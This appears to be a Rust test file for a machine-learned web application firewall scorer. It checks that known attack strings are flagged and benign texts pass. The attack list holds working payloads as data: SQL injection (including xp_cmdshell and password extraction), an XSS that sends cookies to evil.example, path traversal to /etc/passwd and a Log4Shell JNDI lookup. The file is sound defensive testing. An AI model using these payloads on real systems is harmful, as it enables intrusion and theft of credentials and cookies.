//! The shipped model: read, and right on texts that everybody knows.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "helpers of tests stand outside test functions")]

use score::{Mode, Policy, Scorer, Value};
use std::path::Path;

fn shipped() -> Scorer {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/waf/model.txt");
    let text = std::fs::read_to_string(path).unwrap_or_default();
    Scorer::read(&text).unwrap_or_else(|fault| panic!("content/waf/model.txt: {fault}"))
}

fn probability(scorer: &Scorer, value: &str) -> f32 {
    scorer.judge([Value { variable: "ARGS", key: b"q", value: value.as_bytes() }], &[]).probability
}

#[test]
fn attacks_are_raised_without_any_rule() {
    let scorer = shipped();
    let raise_at = scorer.bands().raise_at;
    for value in [
        "1' or '1'='1' -- ",
        "-1 union all select null,table_name,null from information_schema.tables--",
        "1;exec master..xp_cmdshell 'ping 192.0.2.1'--",
        "1%27%20and%20sleep(5)%23",
        "MScgVU5JT04gU0VMRUNUIHVzZXIscGFzc3dvcmQgRlJPTSB1c2Vycy0tIA==",
        "1'/**/oR/**/ascii(substring((select/**/password/**/from/**/users),1,1))>64#",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<script>fetch('//evil.example/?'+document.cookie)</script>",
        "../../../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ] {
        let found = probability(&scorer, value);
        assert!(found >= raise_at, "{value}: {found} below {raise_at}");
    }
}

#[test]
fn plain_texts_are_not() {
    let scorer = shipped();
    let raise_at = scorer.bands().raise_at;
    for value in [
        "",
        "O'Reilly & Sons, Inc.",
        "rock 'n' roll and/or jazz",
        "Please select the best offer from the list and order by Friday; don't drop it!",
        "请从列表中选择一个商品，然后更新数量；谢谢（2件）",
        "https://www.example.com/search?q=union+station&sort=price&order=desc#top",
        "{\"name\":\"D'Angelo\",\"tags\":[\"a\",\"b\"],\"price\":{\"min\":1,\"max\":20}}",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.4zq0p8Q9qBvGZrE3cX0u8Yw8l5sJ0cQ2s6v3l4dGm1A",
        "f(x) = 2*x + 1, x > 0 and y <= 3",
        "<p>Dear all,</p><p>the <b>minutes</b> are <a href=\"https://www.example.com/m\">here</a>.</p>",
        "5'10\" x 3/4\" -- used (like new)",
        "C:\\Users\\Bob\\Documents\\report (final).docx",
        "if (a == null) { return b; } // never happens",
    ] {
        let found = probability(&scorer, value);
        assert!(found < raise_at, "{value}: {found} at or above {raise_at}");
    }
}

#[test]
fn padding_hides_nothing() {
    let scorer = shipped();
    let padded = format!("{}' union select user,password from users-- ", "lorem ipsum ".repeat(10_000));
    assert!(probability(&scorer, &padded) >= scorer.bands().raise_at);
}

const ATTACK: &str = "' union select user,password from users-- ";

fn value<'v>(key: &'v str, value: &'v str) -> Value<'v> {
    Value { variable: "ARGS", key: key.as_bytes(), value: value.as_bytes() }
}

#[test]
fn padding_before_the_attack_hides_nothing() {
    let scorer = shipped();
    let raise_at = scorer.bands().raise_at;
    let lorem = "lorem ipsum; ".repeat(40_000);
    let plain: Vec<String> = (0..2_000).map(|number| format!("word{number}")).collect();
    let short: Vec<String> = (0..300).map(|number| format!("some words, and {number} more of them; well")).collect();
    for padding in [vec![&lorem; 1], vec![&lorem; 8], plain.iter().collect(), short.iter().collect()] {
        let values = padding.iter().map(|text| value("p", text)).chain([value("q", ATTACK)]);
        let score = scorer.judge(values, &[]);
        assert!(score.probability >= raise_at && score.key == b"q", "{} values: {score:?}", padding.len());
    }
    let all = vec![value("p", &lorem); 8];
    assert!(scorer.judge(all, &[]).exceeded, "and it is said what was left aside");
    assert!(!scorer.judge(plain.iter().map(|text| value("p", text)), &[]).exceeded, "plain ones cost nothing");
}

#[test]
fn an_injection_in_any_value_keeps_a_request_from_being_cleared() {
    let scorer = shipped();
    // SQL to the tokenizer, but less like an attack to the model than the text beside it.
    let texts = ["1; select", "x' or y", "a=1 or b=2", "if(1)--", "1 or 1"];
    let sql = texts.into_iter().filter(|text| injection::sqli::detect(text.as_bytes()).is_some());
    let mut seen = 0;
    for sql in sql {
        let alone = scorer.judge([value("a", sql)], &[]);
        assert!(alone.injection, "{sql}");
        let beside = value("b", ATTACK);
        for values in [[value("a", sql), beside], [beside, value("a", sql)]] {
            assert!(scorer.judge(values, &[]).injection);
        }
        let louder = "Please select the best offer from the list and order by Friday; don't drop it!";
        if probability(&scorer, louder) > alone.probability {
            seen += 1;
            assert!(scorer.judge([value("a", sql), value("b", louder)], &[]).injection, "{sql}");
        }
    }
    println!("{seen} of them beside a louder text");
}

#[test]
fn models_that_make_no_sense_are_refused() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/waf/model.txt");
    let text = std::fs::read_to_string(path).unwrap();
    let line = |key: &str| text.lines().find(|line| line.starts_with(key)).unwrap().to_owned();
    let (calibration, bands) = (line("garrison_calibration"), line("garrison_bands"));
    for (old, new) in [
        (&calibration, "garrison_calibration=-1 0"),
        (&calibration, "garrison_calibration=nan 0"),
        (&calibration, "garrison_calibration=1 x 0"),
        (&calibration, "garrison_calibration=1 2 3"),
        (&bands, "garrison_bands=0.5 0.1"),
        (&bands, "garrison_bands=-1 0.5"),
        (&bands, "garrison_bands=0.1 1.5"),
        (&bands, ""),
    ] {
        let fault = Scorer::read(&text.replacen(old.as_str(), new, 1)).unwrap_err();
        assert!(fault.is(&score::fault::CALIBRATION), "{new}: {fault}");
    }
}

#[test]
fn a_score_moves_the_anomaly_score_within_bounds() {
    let scorer = shipped();
    let value = Value { variable: "ARGS", key: b"id", value: b"1' or 1=1 -- " };
    let score = scorer.judge([value], &[]);
    assert_eq!((score.variable, score.key.as_slice(), score.injection), ("ARGS", &b"id"[..], true));
    let policy = Policy { mode: Mode::Block, ..Policy::default() };
    assert_eq!(policy.adjust(0, &score, scorer.bands()).inbound, 5);
    assert_eq!(Policy::default().adjust(0, &score, scorer.bands()).inbound, 0);
}
